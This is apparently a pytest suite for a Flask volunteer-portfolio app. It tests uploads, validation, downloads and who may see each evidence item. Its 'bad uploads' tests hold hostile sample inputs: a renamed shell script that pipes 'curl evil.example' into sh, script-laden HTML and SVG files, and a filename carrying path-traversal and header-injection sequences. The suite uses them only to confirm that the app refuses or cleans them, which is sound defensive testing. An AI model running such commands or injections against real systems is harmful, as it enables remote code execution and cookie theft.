"""The portfolio through the test client, as the people using it would.

Each test checks what a person notices (the text on the page, the file they get, the mail that
goes out) and what is left on disk and in the database. Data that could leak is always present,
so "not shown" means something. Every response that streams a file is closed.
"""

from __future__ import annotations

import gc
import hashlib
import io
import re
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import unquote

import pytest
from flask_babel import format_date
from PIL import Image
from sqlalchemy import func, select

from evc.accounts.models import Role
from evc.db import utcnow
from evc.extensions import db
from evc.mail import OutboxMessage
from evc.once import FormSubmission
from evc.portfolio import services
from evc.portfolio.models import (
    EvidenceComment,
    EvidenceItem,
    EvidenceLink,
    RefereeRequest,
)
from evc.portfolio.services import common as portfolio_common
from evc.procedure.models import Trajectory
from evc.procedure.phases import Phase
from tests import factories
from tests.conftest import Browserless, csrf_from
from tests.portfolio.test_services import (
    MINIMAL_PDF,
    docx_bytes,
    jpeg_with_gps,
    pdf_bytes,
    stored_files,
    temp_files,
)

NOT_ALLOWED = (
    "Dit soort bestand kan niet. Kies een PDF, foto (JPG of PNG), Word-bestand (DOCX) "
    "of OpenDocument-tekst (ODT)."
)
KEY_RE = re.compile(r"[0-9a-f]{2}/[0-9a-f]{2}/[0-9a-f]{32}\.(jpg|pdf|png|docx|odt)")
SECRET_TITLE = "Geheime foto van Vera"

# --- helpers -------------------------------------------------------------------------------------


def text(response) -> str:
    return response.get_data(as_text=True)


def follow(web, response) -> str:
    """The page a redirect leads to (with its flash messages)."""
    assert response.status_code == 302, text(response)[:3000]
    return text(web.get(response.headers["Location"]))


def day(offset: int) -> str:
    return (date.today() + timedelta(days=offset)).isoformat()


def hidden_value(page: str, name: str) -> str:
    match = re.search(rf'<input[^>]*name="{name}"[^>]*>', page)
    assert match, f"no field {name!r} on the page"
    value = re.search(r'value="([^"]*)"', match.group(0))
    return value.group(1) if value else ""


def tokens(web, form_url: str) -> dict:
    """The CSRF token and, if the form has one, its single-use token."""
    page = text(web.get(form_url))
    found = {"csrf_token": csrf_from(page)}
    if 'name="once"' in page:
        found["once"] = hidden_value(page, "once")
    return found


def evidence_form(kind: str = "story", **overrides) -> dict:
    data = {
        "kind": kind,
        "title": "Een boze bezoeker kalmeren",
        "description": "Ik luisterde, bood thee aan en zette nieuwe koffie.",
        "activity_from": day(-30),
        "activity_to": "",
        "work_context": "Buurthuis De Linde",
        "competencies": ["communicating"],
        "version_id": "",
    }
    data.update(overrides)
    return data


def post(
    web, url: str, data: dict, *, file=None, form_url=None, token=None, disposition=None, **kwargs
):
    """Fetch the form (for its tokens), then post it as a browser does: multipart, with the file
    given as ``(name, bytes)`` or an empty file part when none is chosen. ``disposition``
    replaces the ``filename="..."`` parameter of the file part."""
    name, content = file if file is not None else ("", b"")
    body, content_type = multipart(
        form_fields(token or tokens(web, form_url or url), data),
        disposition or f'filename="{name}"',
        content,
    )
    return web.client.post(
        url,
        data=body,
        content_type=content_type,
        base_url=web.base_url,
        headers={"Referer": web.base_url + (form_url or url)},
        **kwargs,
    )


def add_url(trajectory_id: int) -> str:
    return f"/trajecten/{trajectory_id}/portfolio/nieuw"


def overview_url(trajectory_id: int) -> str:
    return f"/trajecten/{trajectory_id}/portfolio"


def count(model, *where) -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def only_item() -> EvidenceItem:
    db.session.expire_all()
    return db.session.scalars(select(EvidenceItem)).one()


def nothing_left(app) -> None:
    """No evidence row and no file anywhere under UPLOAD_DIR (tmp/ included)."""
    assert count(EvidenceItem) == 0 and count(EvidenceLink) == 0
    assert stored_files(app) == [], stored_files(app)
    assert temp_files(app) == [], temp_files(app)


def stored_path(app, key: str) -> Path:
    return Path(app.config["UPLOAD_DIR"]) / key


def multipart(fields: list[tuple[str, str]], disposition: str, content: bytes):
    """A multipart body as bytes, built by hand: the test client's own encoder cannot send file
    names a browser can (``filename*`` with percent-encoded CR/LF), and above 500 kB it spools
    the body to a temp file that it never closes."""
    boundary = "evc-test-boundary-7d1f"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; {disposition}\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def form_fields(token: dict, data: dict) -> list[tuple[str, str]]:
    pairs = list(token.items())
    for name, value in data.items():
        for one in value if isinstance(value, list) else [value]:
            pairs.append((name, one))
    return pairs


def supervisor_of(org, name="Sam Begeleider", email="begeleider@test.example"):
    return factories.user(Role.SUPERVISOR, org=org, name=name, email=email)


@pytest.fixture
def supervisor(org):
    return supervisor_of(org)


@pytest.fixture
def recognising(org, volunteer, supervisor):
    """Vera's trajectory in recognition: intake confirmed, communicating and cooperating chosen."""
    item = factories.trajectory(
        org, volunteer=volunteer, supervisor=supervisor, phase=Phase.RECOGNITION
    )
    factories.intake(item)
    factories.choose(item, "communicating", "cooperating")
    return item


@pytest.fixture
def vera(web, volunteer, recognising):
    """Vera, logged in; returns her trajectory id."""
    web.login(volunteer.email)
    return recognising.id


def client_of(app, email: str) -> Browserless:
    person = Browserless(app.test_client())
    person.login(email)
    return person


def add_photo(web, trajectory_id: int, **overrides):
    data = evidence_form("photo", **{"title": "Foto van de kerstmarkt", **overrides})
    return post(web, add_url(trajectory_id), data, file=("kerstmarkt.jpg", jpeg_with_gps()))


# --- adding evidence -----------------------------------------------------------------------------


def test_add_form_offers_the_kinds_the_chosen_competencies_and_a_camera_friendly_file_input(
    web, vera
):
    page = text(web.get(add_url(vera)))
    assert "<h1>Bewijs toevoegen</h1>" in page
    assert 'enctype="multipart/form-data"' in page
    accept = re.search(r'<input[^>]*type="file"[^>]*accept="([^"]+)"', page).group(1)
    assert {"image/jpeg", "image/png", "application/pdf", ".docx", ".odt"} <= set(accept.split(","))
    for label in ("Foto", "Verhaal (STARR), alleen tekst", "Verklaring van iemand die je werk"):
        assert label in page
    assert "Communiceren" in page and "Samenwerken" in page
    assert "Presentatie" not in page  # not chosen


def test_without_chosen_competencies_the_add_page_says_to_choose_first(
    web, org, volunteer, supervisor
):
    item = factories.trajectory(
        org, volunteer=volunteer, supervisor=supervisor, phase=Phase.RECOGNITION
    )
    web.login(volunteer.email)
    page = text(web.get(add_url(item.id)))
    assert "Kies eerst de competenties waaraan je werkt." in page
    assert 'type="file"' not in page


def test_volunteer_adds_a_photo_which_is_stored_cleaned_under_a_generated_name(app, web, vera):
    response = add_photo(web, vera)
    overview = follow(web, response)
    assert "Je bewijs „Foto van de kerstmarkt” is toegevoegd." in overview
    item = only_item()
    assert f'src="/bewijs/{item.id}/miniatuur"' in overview
    assert "Foto van de kerstmarkt" in overview

    # Stored under UPLOAD_DIR with a generated key, never the uploaded name.
    assert KEY_RE.fullmatch(item.file_key) and KEY_RE.fullmatch(item.thumbnail_key)
    assert "kerstmarkt" not in item.file_key and item.file_name == "kerstmarkt.jpg"
    stored = stored_path(app, item.file_key).read_bytes()
    assert item.file_size == len(stored)
    assert item.file_sha256 == hashlib.sha256(stored).hexdigest()
    assert sorted(stored_files(app)) == sorted(
        [stored_path(app, item.file_key), stored_path(app, item.thumbnail_key)]
    )
    assert temp_files(app) == []
    # The location and the camera are gone; the picture is still there.
    with Image.open(io.BytesIO(stored)) as photo:
        assert photo.format == "JPEG" and photo.size == (640, 480)
        assert dict(photo.getexif()) == {}
        assert "exif" not in photo.info
    with Image.open(stored_path(app, item.thumbnail_key)) as thumb:
        assert thumb.format == "JPEG" and max(thumb.size) <= 320
        assert dict(thumb.getexif()) == {}


def test_a_story_is_text_only(app, web, vera):
    refused = post(web, add_url(vera), evidence_form("story"), file=("verhaal.pdf", MINIMAL_PDF))
    assert refused.status_code == 422
    assert "Een verhaal is alleen tekst." in text(refused)
    nothing_left(app)
    empty = post(web, add_url(vera), evidence_form("story", description=""))
    assert empty.status_code == 422
    assert "Schrijf je verhaal op in de beschrijving." in text(empty)
    page = follow(web, post(web, add_url(vera), evidence_form("story")))
    assert "Een boze bezoeker kalmeren" in page and "Verhaal (STARR)" in page
    assert only_item().file_key is None and stored_files(app) == []


def test_a_photo_needs_an_image_and_a_statement_needs_a_description(app, web, vera):
    no_file = post(web, add_url(vera), evidence_form("photo"))
    assert no_file.status_code == 422 and "Kies een foto (JPG of PNG)." in text(no_file)
    pdf = post(web, add_url(vera), evidence_form("photo"), file=("foto.pdf", MINIMAL_PDF))
    assert pdf.status_code == 422 and "Kies een foto (JPG of PNG)." in text(pdf)
    statement = post(web, add_url(vera), evidence_form("referee_statement", description=" "))
    assert statement.status_code == 422
    assert "Schrijf op wat de referent kan bevestigen." in text(statement)
    nothing_left(app)


def test_a_docx_document_is_accepted(app, web, vera):
    follow(
        web,
        post(web, add_url(vera), evidence_form("document"), file=("verslag.docx", docx_bytes())),
    )
    item = only_item()
    assert item.file_name == "verslag.docx" and item.file_key.endswith(".docx")


def test_evidence_links_only_to_competencies_chosen_in_this_trajectory(app, web, org, vera):
    otto = factories.trajectory(org, phase=Phase.RECOGNITION)
    factories.choose(otto, "resilience")
    for competencies in ([], ["resilience"], ["communicating", "presentation"]):
        response = post(web, add_url(vera), evidence_form(competencies=competencies))
        assert response.status_code == 422
        page = text(response)
        assert (
            "Kies bij welke competentie dit bewijs hoort." in page
            if not competencies
            else "Kies alleen competenties die je in je traject hebt gekozen." in page
        )
    nothing_left(app)
    follow(
        web, post(web, add_url(vera), evidence_form(competencies=["communicating", "cooperating"]))
    )
    assert sorted(only_item().competency_ids) == ["communicating", "cooperating"]


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"title": "x" * 10_000}, "De titel mag hoogstens 200 tekens zijn."),
        ({"title": ""}, "Geef het bewijs een titel."),
        ({"activity_from": day(1)}, "Deze datum mag niet in de toekomst liggen."),
        ({"activity_from": ""}, "Vul een geldige datum in, bijvoorbeeld 15-03-2026."),
        ({"activity_from": "gisteren"}, "Vul een geldige datum in, bijvoorbeeld 15-03-2026."),
        (
            {"activity_from": day(-3), "activity_to": day(-4)},
            "De einddatum mag niet vóór de begindatum liggen.",
        ),
        ({"work_context": ""}, "Vul in bij welk vrijwilligerswerk dit hoort."),
    ],
)
def test_fields_that_make_no_sense_are_refused_with_a_message(app, web, vera, overrides, message):
    response = post(web, add_url(vera), evidence_form(**overrides))
    assert response.status_code == 422
    page = text(response)
    assert "Er is iets niet goed ingevuld" in page and message in page
    nothing_left(app)


def test_evidence_for_every_chosen_competency_clears_the_submission_guard(web, org):
    trajectory = factories.ready_for_submission(org, "communicating", "cooperating")
    web.login(trajectory.volunteer.email)
    submit = f"/trajecten/{trajectory.id}/indienen"
    assert "Er is nog geen bewijs voor: Communiceren, Samenwerken." in text(web.get(submit))
    follow(web, post(web, add_url(trajectory.id), evidence_form(competencies=["communicating"])))
    page = text(web.get(submit))
    assert "Er is nog geen bewijs voor: Samenwerken." in page
    follow(
        web,
        post(
            web,
            add_url(trajectory.id),
            evidence_form("document", title="Draaiboek", competencies=["cooperating"]),
            file=("draaiboek.pdf", MINIMAL_PDF),
        ),
    )
    page = text(web.get(submit))
    assert "Er is nog geen bewijs voor" not in page
    assert "Portfolio inleveren" in page


# --- bad uploads ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        pytest.param(
            "verslag.pdf",
            b"<html><body><script>alert(1)</script></body></html>",
            NOT_ALLOWED,
            id="html-saved-as-pdf",
        ),
        pytest.param(
            "foto.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", NOT_ALLOWED, id="script-renamed-jpg"
        ),
        pytest.param(
            "tekening.svg",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(document.cookie)</script></svg>",
            NOT_ALLOWED,
            id="svg-with-script",
        ),
        pytest.param("x.pdf.html", b"<!doctype html><p>hoi</p>", NOT_ALLOWED, id="x.pdf.html"),
        pytest.param("leeg.pdf", b"", "Het bestand is leeg.", id="empty"),
        pytest.param(
            "kapot.jpg",
            b"\xff\xd8\xff\xe0" + b"\x00" * 200,
            "Deze foto is te groot of beschadigd.",
            id="broken-jpeg",
        ),
    ],
)
def test_bad_uploads_are_refused_and_leave_nothing(app, web, vera, name, content, message):
    response = post(web, add_url(vera), evidence_form("document"), file=(name, content))
    assert response.status_code == 422
    page = text(response)
    assert message in page
    assert 'id="file-error"' in page  # next to the file field
    nothing_left(app)
    # The refused form keeps its single-use token: choosing a good file and sending it again
    # saves it once.
    token = {"csrf_token": csrf_from(page), "once": hidden_value(page, "once")}
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document"),
            token=token,
            file=("goed.pdf", MINIMAL_PDF),
        ),
    )
    assert only_item().file_name == "goed.pdf" and len(stored_files(app)) == 1


def test_a_file_over_the_limit_is_refused_without_storing_anything(app, web, vera):
    app.config["MAX_FILE_BYTES"] = 50_000
    response = post(
        web, add_url(vera), evidence_form("document"), file=("groot.pdf", pdf_bytes(60_000))
    )
    assert response.status_code in (413, 422)
    page = text(response)
    assert "Het bestand is te groot." in page and 'id="file-error"' in page
    nothing_left(app)
    # Just under the limit is fine.
    follow(
        web,
        post(web, add_url(vera), evidence_form("document"), file=("klein.pdf", pdf_bytes(49_000))),
    )
    assert only_item().file_size == 49_000


def test_a_body_over_max_content_length_gets_the_413_page(app, web, vera):
    app.config["MAX_CONTENT_LENGTH"] = 100_000
    response = post(
        web, add_url(vera), evidence_form("document"), file=("groot.pdf", pdf_bytes(150_000))
    )
    assert response.status_code == 413
    page = text(response)
    assert "Bestand te groot" in page
    assert "Wat je verstuurde is te groot." in page
    nothing_left(app)


def _chunked(web, url, body: bytes, content_type: str):
    """Post ``body`` as a server that decoded a chunked request passes it on: no
    Content-Length, and ``wsgi.input_terminated`` set."""
    return web.client.post(
        url,
        input_stream=io.BytesIO(body),
        content_type=content_type,
        base_url=web.base_url,
        headers={"Referer": web.base_url + url, "Transfer-Encoding": "chunked"},
        environ_overrides={"wsgi.input_terminated": True},
    )


# Werkzeug's form parser does not close the temp file it was filling when the limit stops the
# stream (werkzeug.formparser.MultiPartParser.parse has no cleanup), so that file is closed by
# the garbage collector with a ResourceWarning. It is not the app's file and not on UPLOAD_DIR.
@pytest.mark.filterwarnings("ignore:Unclosed file <tempfile.SpooledTemporaryFile:ResourceWarning")
def test_a_chunked_body_without_content_length_is_limited_too(app, web, vera):
    app.config["MAX_CONTENT_LENGTH"] = 100_000
    url = add_url(vera)
    body, content_type = multipart(
        form_fields(tokens(web, url), evidence_form("document")),
        'filename="groot.pdf"',
        pdf_bytes(150_000),
    )
    response = _chunked(web, url, body, content_type)
    assert response.status_code == 413 and "Bestand te groot" in text(response)
    del response
    gc.collect()  # see the filterwarnings mark: werkzeug's leftover temp file goes here
    nothing_left(app)
    # A small chunked upload is received like any other.
    body, content_type = multipart(
        form_fields(tokens(web, url), evidence_form("document")),
        'filename="klein.pdf"',
        MINIMAL_PDF,
    )
    follow(web, _chunked(web, url, body, content_type))
    assert only_item().file_name == "klein.pdf"


def test_a_hostile_file_name_is_cleaned_for_display_and_in_the_download_header(app, web, vera):
    # As a browser percent-encodes it: ../../etc/"evil"<CR><LF>X-Injected: yes;.pdf
    hostile = "filename*=UTF-8''..%2F..%2Fetc%2F%22evil%22%0D%0AX-Injected%3A%20yes%3B.pdf"
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document"),
            file=("", MINIMAL_PDF),
            disposition=hostile,
        ),
    )
    item = only_item()
    assert item.file_name == '"evil" X-Injected: yes;.pdf'
    assert "/" not in item.file_name and "\r" not in item.file_name
    assert KEY_RE.fullmatch(item.file_key)
    page = text(web.get(f"/bewijs/{item.id}"))
    assert "&#34;evil&#34; X-Injected: yes;.pdf" in page  # escaped on the page
    with web.get(f"/bewijs/{item.id}/bestand") as response:
        disposition = response.headers["Content-Disposition"]
        assert response.data == MINIMAL_PDF
        assert "X-Injected" not in response.headers
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith('attachment; filename="_evil_ X-Injected: yes_.pdf"; ')
    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == item.file_name


def test_a_windows_path_and_a_name_of_only_dots(app, web, vera):
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document", title="Een"),
            file=("", MINIMAL_PDF),
            disposition="filename*=UTF-8''C%3A%5CUsers%5Cvera%5Cverslag.pdf",
        ),
    )
    follow(
        web,
        post(
            web, add_url(vera), evidence_form("document", title="Twee"), file=("...", MINIMAL_PDF)
        ),
    )
    names = db.session.scalars(select(EvidenceItem.file_name).order_by(EvidenceItem.id)).all()
    assert names == ["verslag.pdf", "bestand.pdf"]


def test_a_full_portfolio_refuses_another_file(app, web, vera):
    app.config["MAX_PORTFOLIO_BYTES"] = 2_000_000
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document", title="Groot"),
            file=("groot.pdf", pdf_bytes(1_500_000)),
        ),
    )
    before = stored_files(app)
    response = post(
        web,
        add_url(vera),
        evidence_form("document", title="Nog een"),
        file=("nog.pdf", pdf_bytes(600_000)),
    )
    assert response.status_code == 422
    assert "Je portfolio is vol: alle bestanden samen mogen hoogstens 2 MB zijn." in text(response)
    assert count(EvidenceItem) == 1 and stored_files(app) == before and temp_files(app) == []
    assert re.search(r"Bestanden samen: 1[.,]5 van 2 MB", text(web.get(overview_url(vera))))


def test_a_form_sent_twice_stores_one_item_and_one_file(app, web, vera):
    url = add_url(vera)
    token = tokens(web, url)
    data = evidence_form("document", title="Dubbel geklikt")
    first = post(web, url, data, file=("een.pdf", MINIMAL_PDF), token=token)
    second = post(web, url, data, file=("een.pdf", MINIMAL_PDF), token=token)
    assert first.status_code == 302
    assert second.status_code == 422
    assert "Dit formulier is al verstuurd en is één keer opgeslagen." in text(second)
    assert count(EvidenceItem) == 1 and count(FormSubmission) == 1
    assert len(stored_files(app)) == 1 and temp_files(app) == []


def test_a_failure_after_the_file_arrived_leaves_no_row_and_no_file(app, web, vera, monkeypatch):
    app.config["PROPAGATE_EXCEPTIONS"] = False

    def broken(*_args, **_kwargs):
        raise RuntimeError("the audit log is down")

    monkeypatch.setattr(portfolio_common, "log_action", broken)
    response = add_photo(web, vera)
    assert response.status_code == 500
    assert "Er is niets opgeslagen van deze actie." in text(response)
    nothing_left(app)


# --- editing and removing ------------------------------------------------------------------------


def edit_form(item_id: int, web, **overrides) -> tuple[dict, dict]:
    page = text(web.get(f"/bewijs/{item_id}/bewerken"))
    token = {"csrf_token": csrf_from(page), "once": hidden_value(page, "once")}
    data = evidence_form(**overrides)
    data["version_id"] = hidden_value(page, "version_id")
    return token, data


def test_replacing_the_file_deletes_the_old_one(app, web, vera):
    follow(web, add_photo(web, vera))
    item = only_item()
    old = [stored_path(app, item.file_key), stored_path(app, item.thumbnail_key)]
    token, data = edit_form(item.id, web, kind="document", title="Nu een verslag")
    response = post(
        web, f"/bewijs/{item.id}/bewerken", data, token=token, file=("verslag.pdf", MINIMAL_PDF)
    )
    page = follow(web, response)
    assert "Je wijzigingen zijn opgeslagen." in page and "verslag.pdf" in page
    item = only_item()
    assert not any(path.exists() for path in old)
    assert stored_files(app) == [stored_path(app, item.file_key)]
    assert item.thumbnail_key is None and temp_files(app) == []


def test_removing_only_the_file(app, web, vera):
    follow(
        web, post(web, add_url(vera), evidence_form("document"), file=("verslag.pdf", MINIMAL_PDF))
    )
    item = only_item()
    page = text(web.get(f"/bewijs/{item.id}/bewerken"))
    assert "Huidig bestand: verslag.pdf" in page and "Huidig bestand weghalen" in page
    token, data = edit_form(item.id, web, kind="document")
    data["remove_file"] = "y"
    page = follow(web, post(web, f"/bewijs/{item.id}/bewerken", data, token=token))
    assert "verslag.pdf" not in page
    assert only_item().file_key is None and stored_files(app) == []


def test_a_stale_edit_is_refused_and_the_newer_version_kept(app, web, vera):
    follow(web, post(web, add_url(vera), evidence_form(title="Eerste titel")))
    item = only_item()
    token, stale = edit_form(item.id, web, title="Van het oude tabblad")
    token2, fresh = edit_form(item.id, web, title="Van het nieuwe tabblad")
    follow(web, post(web, f"/bewijs/{item.id}/bewerken", fresh, token=token2))
    response = post(web, f"/bewijs/{item.id}/bewerken", stale, token=token)
    assert response.status_code == 409
    assert "Iemand anders heeft dit intussen opgeslagen." in text(response)
    assert "Dit staat nu opgeslagen" in text(response)
    assert "Van het nieuwe tabblad" in text(response)  # what is stored, beside what was typed
    assert only_item().title == "Van het nieuwe tabblad"


def test_an_edit_with_a_field_that_makes_no_sense_keeps_the_stored_version(app, web, vera):
    follow(web, post(web, add_url(vera), evidence_form(title="Eerste titel")))
    item = only_item()
    for overrides, message in (
        ({"title": "x" * 201}, "De titel mag hoogstens 200 tekens zijn."),
        ({"activity_from": day(2)}, "Deze datum mag niet in de toekomst liggen."),
        ({"competencies": ["resilience"]}, "Kies alleen competenties die je in je traject"),
    ):
        token, data = edit_form(item.id, web, **overrides)
        response = post(web, f"/bewijs/{item.id}/bewerken", data, token=token)
        assert response.status_code == 422
        assert message in text(response) and "Bewijs aanpassen" in text(response)
    stored = only_item()
    assert (stored.title, stored.competency_ids) == ("Eerste titel", ["communicating"])


def test_an_item_changed_into_a_story_does_not_keep_a_file(app, web, vera):
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document", title="Verslag"),
            file=("verslag.pdf", MINIMAL_PDF),
        ),
    )
    item = only_item()
    token, data = edit_form(item.id, web, kind="story", title="Verslag")
    response = post(web, f"/bewijs/{item.id}/bewerken", data, token=token)
    item = only_item()
    # Either the change is refused with the story message, or the file goes with it.
    if response.status_code == 422:
        assert "Een verhaal is alleen tekst." in text(response)
    assert not (item.kind == "story" and item.file_key), (item.kind, item.file_name)


def test_removing_an_item_asks_first_then_removes_row_links_and_files(app, web, vera):
    follow(web, add_photo(web, vera, competencies=["communicating", "cooperating"]))
    item = only_item()
    page = text(web.get(f"/bewijs/{item.id}/verwijderen"))
    assert "„Foto van de kerstmarkt” weghalen?" in page
    assert "Dit bewijs hoort bij 2 competenties." in page
    assert "Ja, haal het weg" in page and "Nee, laat staan" in page
    assert count(EvidenceItem) == 1  # asking removes nothing
    page = follow(web, web.post_form(f"/bewijs/{item.id}/verwijderen"))
    assert "„Foto van de kerstmarkt” is weggehaald." in page
    assert count(EvidenceItem) == 0 and count(EvidenceLink) == 0
    assert stored_files(app) == [] and temp_files(app) == []
    assert web.get(f"/bewijs/{item.id}").status_code == 404


def test_after_submission_the_volunteer_cannot_add_edit_or_remove(app, web, vera, session):
    follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document", title="Ingeleverd"),
            file=("verslag.pdf", MINIMAL_PDF),
        ),
    )
    item = only_item()
    edit_token, edit_data = edit_form(item.id, web, kind="document", title="Gewijzigd")
    add_token = tokens(web, add_url(vera))
    trajectory = session.get(Trajectory, vera)
    trajectory.phase = Phase.ASSESSMENT
    session.commit()
    before = stored_files(app)

    overview = text(web.get(overview_url(vera)))
    assert "Bewijs toevoegen" not in overview and "Ingeleverd" in overview
    item_page = text(web.get(f"/bewijs/{item.id}"))
    assert "Aanpassen" not in item_page and "Weghalen" not in item_page

    page = follow(web, web.get(add_url(vera)))
    assert "Alleen de vrijwilliger voegt bewijs toe, en alleen tot het portfolio is ingediend." in (
        page
    )
    page = follow(
        web,
        post(
            web,
            add_url(vera),
            evidence_form("document", title="Te laat"),
            token=add_token,
            file=("laat.pdf", MINIMAL_PDF),
        ),
    )
    assert "alleen tot het portfolio is ingediend" in page
    page = follow(
        web,
        post(
            web,
            f"/bewijs/{item.id}/bewerken",
            edit_data,
            token=edit_token,
            file=("nieuw.pdf", pdf_bytes(5000)),
        ),
    )
    assert "Alleen de vrijwilliger past bewijs aan, en alleen tot het portfolio is ingediend." in (
        page
    )
    page = follow(
        web, web.post_form(f"/bewijs/{item.id}/verwijderen", form_url=f"/bewijs/{item.id}")
    )
    assert "Alleen de vrijwilliger haalt bewijs weg, en alleen tot het portfolio is ingediend." in (
        page
    )
    assert count(EvidenceItem) == 1 and only_item().title == "Ingeleverd"
    assert only_item().file_name == "verslag.pdf"
    assert stored_files(app) == before and temp_files(app) == []


# --- downloads -----------------------------------------------------------------------------------


def test_download_is_an_attachment_with_the_real_name_sandboxed_and_not_cached(app, web, vera):
    follow(
        web,
        post(
            web, add_url(vera), evidence_form("document"), file=("Verslag été ö.pdf", MINIMAL_PDF)
        ),
    )
    item = only_item()
    page = text(web.get(f"/bewijs/{item.id}"))
    assert f'href="/bewijs/{item.id}/bestand">Verslag été ö.pdf</a>' in page
    with web.get(f"/bewijs/{item.id}/bestand") as response:
        assert response.status_code == 200
        assert response.data == MINIMAL_PDF
        headers = response.headers
    assert headers["Content-Type"] == "application/pdf"
    disposition = headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="Verslag ete o.pdf"; ')
    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == "Verslag été ö.pdf"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    assert headers["Cache-Control"] == "no-store"


def test_the_thumbnail_is_shown_inline_as_a_jpeg(app, web, vera):
    follow(web, add_photo(web, vera))
    item = only_item()
    with web.get(f"/bewijs/{item.id}/miniatuur") as response:
        assert response.status_code == 200
        data = response.data
        headers = response.headers
    assert headers["Content-Type"] == "image/jpeg"
    assert "attachment" not in headers.get("Content-Disposition", "")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    assert headers["Cache-Control"] == "no-store"
    with Image.open(io.BytesIO(data)) as thumb:
        assert thumb.format == "JPEG" and max(thumb.size) <= 320
    with web.get(f"/bewijs/{item.id}/bestand") as photo:
        assert photo.headers["Content-Type"] == "image/jpeg"
        assert photo.headers["Content-Disposition"].startswith("attachment;")


def test_an_item_without_file_has_no_download(web, vera):
    follow(web, post(web, add_url(vera), evidence_form("story")))
    item = only_item()
    for suffix in ("/bestand", "/miniatuur"):
        with web.get(f"/bewijs/{item.id}{suffix}") as response:
            assert response.status_code == 404


# --- who sees what -------------------------------------------------------------------------------


@pytest.fixture
def secret_photo(app, web, vera):
    """Vera's photo with a title that must not leak, and a comment of her supervisor."""
    follow(web, add_photo(web, vera, title=SECRET_TITLE))
    return only_item().id


def item_paths(item_id: int, trajectory_id: int) -> list[str]:
    return [
        f"/bewijs/{item_id}",
        f"/bewijs/{item_id}/bestand",
        f"/bewijs/{item_id}/miniatuur",
        f"/bewijs/{item_id}/bewerken",
        f"/bewijs/{item_id}/verwijderen",
        f"/bewijs/{item_id}/verklaring-vragen",
        f"/trajecten/{trajectory_id}/portfolio",
        f"/trajecten/{trajectory_id}/portfolio/nieuw",
        f"/trajecten/{trajectory_id}/portfolio/inzage",
    ]


def outsiders(org, other_org):
    other_volunteer = factories.user(Role.VOLUNTEER, org=org, name="Otto Anders")
    other_supervisor = supervisor_of(org, name="Bea Begeleider", email="bea@test.example")
    factories.trajectory(
        org, volunteer=other_volunteer, supervisor=other_supervisor, phase=Phase.RECOGNITION
    )
    return {
        "other volunteer": other_volunteer,
        "other supervisor": other_supervisor,
        "coordinator elsewhere": factories.user(Role.COORDINATOR, org=other_org),
        "assessor": factories.user(Role.ASSESSOR, org=org),
        "client": factories.user(Role.CLIENT, org=org),
    }


def test_nobody_outside_sees_or_touches_the_evidence(
    app, org, other_org, secret_photo, recognising
):
    for who, person in outsiders(org, other_org).items():
        web = client_of(app, person.email)
        for path in item_paths(secret_photo, recognising.id):
            with web.get(path) as response:
                assert response.status_code == 404, (who, path)
                page = text(response)
            assert SECRET_TITLE not in page and "Vera Vrijwilliger" not in page, (who, path)
        # Nor by posting a form of their own.
        response = web.client.post(
            f"/bewijs/{secret_photo}/reactie", data={"body": "Hoi"}, base_url=web.base_url
        )
        assert response.status_code in (400, 404), who
        assert count(EvidenceComment) == 0
    assert count(EvidenceItem) == 1 and len(stored_files(app)) == 2


def test_supervisor_and_coordinator_view_and_download_but_do_not_change(
    app, org, coordinator, supervisor, secret_photo, recognising
):
    for person in (supervisor, coordinator):
        web = client_of(app, person.email)
        overview = text(web.get(overview_url(recognising.id)))
        assert SECRET_TITLE in overview and "Bewijs toevoegen" not in overview
        page = text(web.get(f"/bewijs/{secret_photo}"))
        assert SECRET_TITLE in page and "Aanpassen" not in page and "Weghalen" not in page
        with web.get(f"/bewijs/{secret_photo}/bestand") as response:
            assert response.status_code == 200 and response.data[:3] == b"\xff\xd8\xff"
        with web.get(f"/bewijs/{secret_photo}/miniatuur") as response:
            assert response.status_code == 200
        page = follow(web, web.get(f"/bewijs/{secret_photo}/bewerken"))
        assert "Alleen de vrijwilliger past bewijs aan" in page
        page = follow(
            web,
            web.post_form(
                f"/bewijs/{secret_photo}/verwijderen", form_url=f"/bewijs/{secret_photo}"
            ),
        )
        assert "Alleen de vrijwilliger haalt bewijs weg" in page
        page = follow(web, web.get(add_url(recognising.id)))
        assert "Alleen de vrijwilliger voegt bewijs toe" in page
        assert web.get(f"/trajecten/{recognising.id}/portfolio/inzage").status_code == 404
    assert count(EvidenceItem) == 1 and only_item().title == SECRET_TITLE
    assert len(stored_files(app)) == 2


def comment(web, item_id: int, body: str):
    page = text(web.get(f"/bewijs/{item_id}"))
    token = {"csrf_token": csrf_from(page), "once": hidden_value(page, "once")}
    return web.client.post(
        f"/bewijs/{item_id}/reactie",
        data={**token, "body": body},
        base_url=web.base_url,
        headers={"Referer": web.base_url + f"/bewijs/{item_id}"},
    )


def test_supervisor_comments_the_volunteer_answers_and_each_gets_a_mail(
    app, web, coordinator, supervisor, secret_photo
):
    sam = client_of(app, supervisor.email)
